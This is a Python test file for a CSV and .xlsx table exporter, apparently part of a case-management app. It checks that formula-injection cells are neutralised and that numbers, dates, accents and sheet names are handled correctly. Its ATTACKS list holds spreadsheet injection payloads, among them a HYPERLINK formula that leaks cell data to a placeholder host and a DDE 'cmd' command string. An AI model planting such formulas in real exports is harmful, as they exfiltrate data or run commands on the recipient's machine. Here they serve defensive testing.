"""The one table writer: no text cell runs as a formula, in CSV or .xlsx; numbers and dates stay what they are."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from hhdesk.exports.tables import (
    FORMULA_STARTS,
    Table,
    TableFormat,
    Workbook,
    csv_bytes,
    encode,
    sheet_name,
    xlsx_bytes,
)

ATTACKS = ['=HYPERLINK("http://example.invalid/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
           "\t=1+1", "\r=1+1"]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_formula_cells_are_neutralised_and_real_numbers_kept() -> None:
    table = Table("List", ["text", "number", "amount", "day"],
                  [[attack, -5, Decimal("-2.50"), date(2026, 11, 30)] for attack in ATTACKS])
    rows = read_csv(csv_bytes(table))
    assert rows[0] == ["text", "number", "amount", "day"]
    assert [row[0] for row in rows[1:]] == ["'" + attack for attack in ATTACKS]
    assert {tuple(row[1:]) for row in rows[1:]} == {("-5", "-2.50", "2026-11-30")}


def test_csv_is_utf8_with_a_bom_and_crlf() -> None:
    data = csv_bytes(Table("List", ["name"], [["Núñez, José"], ["Zoë"]]))
    assert data == "\ufeffname\r\n\"Núñez, José\"\r\nZoë\r\n".encode()


def test_xlsx_formula_cells_are_text_and_open_with_accents() -> None:
    table = Table("Caseload — José's", ["name", "n", "amount", "when"],
                  [[attack, -5, Decimal("-2.50"), datetime(2026, 12, 4, 9, 30)] for attack in ATTACKS]
                  + [["Núñez José", 0, None, None]], money=frozenset({"amount"}))
    data = xlsx_bytes(Workbook([table], notes=[("List", "Caseload")]))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, "a cell was written as a formula"
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert book.sheetnames == ["Caseload — José's", "About this export"]
    values = list(sheet.iter_rows(min_row=2))
    for row, attack in zip(values, ATTACKS, strict=False):
        # XML reads a carriage return back as a line feed; what matters is that the cell is text.
        assert row[0].value == attack.replace("\r", "\n") and row[0].data_type == "s" and row[0].quotePrefix
        assert row[1].value == -5 and row[1].data_type == "n"  # a negative number stays a number
        assert row[2].value == -2.5 and row[2].number_format == '"$"#,##0.00'
        assert row[3].value == datetime(2026, 12, 4, 9, 30)
    assert values[-1][0].value == "Núñez José" and not values[-1][0].quotePrefix
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold


def test_a_csv_holds_the_first_table_of_a_workbook() -> None:
    book = Workbook([Table("A", ["a"], [["1"]]), Table("B", ["b"], [["2"]])])
    assert read_csv(encode(book, TableFormat.CSV)) == [["a"], ["1"]]
    assert openpyxl.load_workbook(io.BytesIO(encode(book, TableFormat.XLSX))).sheetnames == ["A", "B"]


def test_sheet_names_excel_accepts() -> None:
    taken: set[str] = set()
    assert sheet_name("Billing 2026/11: [preview]?", taken) == "Billing 2026 11   preview"
    assert sheet_name("x" * 40, taken) == "x" * 31
    assert sheet_name("x" * 40, taken) == "x" * 27 + " (2)"


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_no_csv_cell_ever_begins_a_formula(text: str) -> None:
    cell = read_csv(csv_bytes(Table("T", ["c"], [[text]])))[1:]
    written = "\n".join("".join(row) for row in cell)
    if text.startswith(FORMULA_STARTS):
        assert written.startswith("'")
    else:
        assert not written.startswith(FORMULA_STARTS[:4])


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\r"), min_size=1,
               max_size=30))
def test_xlsx_keeps_any_text_as_text(text: str) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(Workbook([Table("T", ["c"], [[text]])])))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    expected = "".join("\ufffd" if (ord(ch) < 32 and ch not in "\t\n") else ch for ch in text)
    assert cell.value == expected
